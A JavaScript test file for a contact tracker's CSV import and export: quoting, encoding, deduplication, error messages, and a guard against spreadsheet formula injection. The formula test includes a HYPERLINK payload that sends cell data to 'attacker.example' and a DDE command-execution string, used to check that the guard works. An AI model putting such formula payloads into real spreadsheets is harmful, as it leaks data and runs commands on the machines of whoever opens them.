// Spreadsheets of the tracker (docs/assets/guidebook/tracker_csv.js): RFC 4180 written and read back, the
// formula guard, the connections export of a professional network, and every refusal with its line, on the
// fixture files of tests/tracker/.
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { COLUMNS, cell, plan, read, rows, write } from "../../docs/assets/guidebook/tracker_csv.js";

const file = (name) => new Uint8Array(readFileSync(new URL(`../tracker/${name}`, import.meta.url)));
const bytes = (text) => new TextEncoder().encode(text);

test("cells are quoted as RFC 4180 says, and formula starts get an apostrophe", () => {
  assert.equal(cell("plain"), "plain");
  assert.equal(cell('Lee, "Jo"'), '"Lee, ""Jo"""');
  assert.equal(cell("two\nlines"), '"two\nlines"');
  assert.equal(cell(""), "");
  assert.equal(cell(undefined), "");
  for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
    const written = cell(start + "1+1");
    assert.ok(written === "'" + start + "1+1" || written === `"'${start}1+1"`, JSON.stringify(written));
  }
  assert.equal(cell("=SUM(A1,B1)"), `"'=SUM(A1,B1)"`);
  assert.equal(cell("a=b"), "a=b", "only a cell that starts with one");
});

test("an export is UTF-8 with a byte order mark, CRLF lines and this page's header", () => {
  const text = write([{ name: "José", tie: "close", waiting: true, due: "2030-06-12" }]);
  assert.ok(text.startsWith("\uFEFF" + Object.keys(COLUMNS).join(",") + "\r\n"));
  assert.ok(text.endsWith("\r\n") && !/[^\r]\n/.test(text));
  assert.equal(text.split("\r\n")[1], "José,,,,close,,2030-06-12,,,yes,,");
});

const PEOPLE = [
  { name: "José Ñúñez 🙂", how: "Meetup, February", talked: "Interviews;\nsmall teams", promised: "=HYPERLINK(\"x\")", tie: "close",
    next: "Coffee", due: "2030-06-12", last: "2030-05-01", met: "2030-04-30", waiting: true, url: "https://example.org/in/j",
    notes: "+44 20 7946 0000\r\n- bring the book, \"soon\"" },
  { name: "@handle", tie: "loose", notes: "\ttabbed" },
  { name: "Ana" }
];

test("what the page exports, it imports again unchanged (formula guards taken off)", () => {
  const back = read(bytes(write(PEOPLE)));
  assert.deepEqual(back, { people: PEOPLE });
});

test("this page's own file, with a BOM, accents, emoji and quoted cells", () => {
  const { people } = read(file("own-format.csv"));
  assert.equal(people.length, 3);
  assert.deepEqual(people[0], { name: "José Ñúñez", how: "Research meetup, February", talked: "Interviews with small teams",
    promised: "Send the article", tie: "close", next: "Invite to the reading group", due: "2030-06-12", last: "2030-02-23",
    met: "2030-02-20", url: "https://example.org/in/jose" });
  assert.deepEqual(people[1], { name: "Lee, Jordan; Jr.", how: "Through Maya Chen", tie: "loose", last: "2030-05-15", waiting: true, notes: 'Said "call me Jo"' });
  assert.deepEqual(people[2], { name: "Marta Kovač 🙂", how: "Worked together at Brightline", notes: "=not a formula" });
});

test("quoted cells keep their line breaks, commas and quotes, and rows keep their first line", () => {
  const { people } = read(file("quoted-newlines.csv"));
  assert.deepEqual(people.map((p) => p.name), ["Priya Shah", "Daniel Okafor"]);
  assert.equal(people[0].how, "Meetup,\r\nthen a call");
  assert.equal(people[0].promised, "Two things:\r\n1. the article\r\n2. an introduction");
  assert.equal(people[0].notes, 'First line\nsecond line, with a comma\nand "quotes"');
  const parsed = rows(new TextDecoder().decode(file("quoted-newlines.csv")));
  assert.deepEqual(parsed.rows.map((row) => row.line), [1, 2, 8], "five line breaks in Priya's cells: Daniel is on line 8");
});

test("a connections export: notes skipped, name, link, position and company kept, email left out", () => {
  const { people } = read(file("connections.csv"));
  assert.equal(people.length, 4);
  assert.deepEqual(people[0], { name: "Ana Silva", url: "https://www.example.com/in/ana-silva", how: "Research lead, Northwind", met: "2023-12-04" });
  assert.deepEqual(people[1], { name: "Daniel Okafor", url: "https://www.example.com/in/dokafor", how: "Designer, Blue Fin, Ltd", met: "2024-03-15" });
  assert.ok(people.every((p) => !JSON.stringify(p).includes("@example.org")), "no email address is kept");
});

test("an import adds new people and skips duplicates: the same name and profile link", () => {
  const { people } = read(file("connections.csv"));
  assert.deepEqual(plan({}, people).skip, 1, "Ana Silva twice (a link with and without its last slash)");
  const here = { x: { name: "priya  SHAH", url: "https://www.example.com/in/priya" }, y: { name: "Daniel Okafor" } };
  const { add, skip } = plan(here, people);
  assert.deepEqual(add.map((p) => p.name), ["Ana Silva", "Daniel Okafor"], "another Daniel: no link, so not the same");
  assert.equal(skip, 2);
});

test("formula cells come in as plain text, and go out guarded", () => {
  const { people } = read(file("formulas.csv"));
  assert.equal(people[0].name, '=HYPERLINK("http://attacker.example/?leak="&A1;"Click") Smith');
  assert.equal(people[0].how, "-2+3, +cmd|' /C calc'!A0");
  assert.equal(people[1].name, "@SUM(1+1) Jones");
  const out = write(people).split("\r\n");
  assert.ok(out[1].startsWith(`"'=HYPERLINK(`), out[1]);
  assert.ok(out[1].includes(`"'-2+3, +cmd|' /C calc'!A0"`), out[1]);
  assert.ok(out[2].startsWith("'@SUM(1+1) Jones,"), out[2]);
  assert.ok(!out.slice(1).some((line) => /(^|,)[=+\-@\t\r]/.test(line)), "no cell starts a formula");
});

test("10,000 rows are read, every one", () => {
  const { people } = read(file("ten-thousand-rows.csv"));
  assert.equal(people.length, 10_000);
  assert.deepEqual(people[9999], { name: "Person9999 Number9999", url: "https://example.com/in/p9999", how: "Role 2, Company 8", met: "2024-03-04" });
  assert.equal(plan({}, people).add.length, 10_000);
});

test("every file that cannot be read is refused, with the line and the problem", () => {
  const refusals = {
    "empty.csv": { problem: "empty" },
    "wrong-encoding.csv": { problem: "encoding", values: { line: 3 } },
    "missing-header.csv": { problem: "header", values: { line: 1 } },
    "unclosed-quote.csv": { problem: "quote", values: { line: 3 } },
    "too-many-cells.csv": { problem: "cells", values: { line: 3, found: 8, expected: 7 } },
    "no-name.csv": { problem: "name", values: { line: 3 } },
    "bad-date.csv": { problem: "date", values: { line: 2, value: "next Tuesday" } },
    "bad-closeness.csv": { problem: "tie", values: { line: 2, value: "best friends" } }
  };
  for (const [name, refusal] of Object.entries(refusals)) assert.deepEqual(read(file(name)), refusal, name);
  assert.deepEqual(read(bytes("\uFEFF\r\n \r\n")), { problem: "empty" });
  assert.deepEqual(read(bytes("name,next_step_date\r\n" + "x".repeat(201) + ",\r\n")), { problem: "long", values: { line: 2, limit: 200 } });
  assert.deepEqual(read(new Uint8Array([0xff, 0xfe, 0x4e, 0x00])), { problem: "encoding", values: { line: 1 } }, "UTF-16");
});
